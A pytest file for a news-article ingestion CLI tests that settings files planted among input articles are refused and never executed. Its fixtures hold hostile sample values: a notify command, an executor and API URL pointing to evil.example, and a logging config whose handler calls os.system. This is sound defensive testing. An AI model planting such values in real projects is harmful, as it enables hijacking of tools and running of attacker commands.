"""Files of settings among the articles are refused before anything reads them."""

import os
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from flows.cli import app
from flows.planted import require_apart, require_none_planted
from flows.provenance import SettingsError
from flows.settings import load_settings
from schema.errors import UsageError

ROOT = Path(__file__).parents[2]
PLANTED = {
    ".env": "ONRECORD_NOTIFY_COMMAND='touch owned'\n",
    ".env ": "onrecord_executor=dask://evil.example:8786\n",
    ".env  ": "PREFECT_API_URL=http://evil.example/api\n",
    "prefect.toml": "[logging]\nconfig_path = 'logging.yml'\n",
    "pyproject.toml": "[tool.prefect.logging]\nconfig_path = 'logging.yml'\n",
    "data/onrecord.toml": "notify_command = 'touch owned'\n",
}


@pytest.fixture
def inbox(tmp_path, monkeypatch):
    """A folder of articles in which a command is started."""
    folder = tmp_path / "inbox"
    (folder / "sub").mkdir(parents=True)
    (folder / "data").mkdir()
    (folder / "a.txt").write_text('"The mill was sold," Ada Boson said.\n')
    monkeypatch.chdir(folder)
    return folder


@pytest.mark.parametrize("name", PLANTED)
def test_settings_among_the_articles_are_refused(inbox, name):
    (inbox / name.strip()).write_text(PLANTED[name])
    settings = load_settings({})
    for sources in (
        ["."],
        [str(inbox)],
        ["/nowhere/*.txt", "*.txt"],
        ["..//./inbox/a.txt"],
        ["file://" + str(inbox)],
    ):
        with pytest.raises(SettingsError, match=name.strip().replace(".", r"\.")):
            require_none_planted(sources, settings)
    require_none_planted(["a.txt", "sub", "https://news.example/"], settings)


def test_harmless_settings_and_files_of_other_programs_are_not_refused(inbox):
    (inbox / ".env").write_text("ONRECORD_LIMIT=3\nONRECORD_LANGUAGES=en\nHOME=/x\n")
    (inbox / "pyproject.toml").write_text("[project]\nname = 'thesis'\n[tool.ruff]\n")
    (inbox / "data" / "onrecord.toml").write_text("wait = 3\n")
    require_none_planted(["."], load_settings({}))
    (inbox / "pyproject.toml").write_text("tool = 3\n")
    require_none_planted(["."], load_settings({}))


def test_serve_does_not_start_among_the_articles(inbox, monkeypatch):
    for sources in (["."], ["..//./inbox/x", ".."], [str(inbox)]):
        with pytest.raises(UsageError, match="in a folder of articles"):
            require_apart(sources)
    require_apart(["sub", "a.txt", "https://news.example/"])
    done = CliRunner().invoke(app, ["serve", "."])
    assert done.exit_code == 2 and "in a folder of articles" in done.stderr


@pytest.mark.parametrize(
    "command", [["ingest", "."], ["ingest", "*.txt"], ["watch", "."], ["serve", "*.txt"]]
)
def test_no_command_runs_what_a_planted_file_names(inbox, command):
    (inbox / "pyproject.toml").write_text(PLANTED["pyproject.toml"])

    (inbox / "logging.yml").write_text("version: 1\nhandlers: {a: {(): os.system, command: touch owned}}\n")
    (inbox / ".env").write_text(PLANTED[".env"])
    kept = {name: value for name, value in os.environ.items() if not name.startswith(("PREFECT", "ONRECORD"))}
    done = subprocess.run(
        [sys.executable, "-P", "-m", "flows.cli", *command],
        env=kept | {"PYTHONPATH": str(ROOT)}, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert done.returncode == 2 and "folder of articles" in done.stderr, done.stderr
    assert not (inbox / "owned").exists()
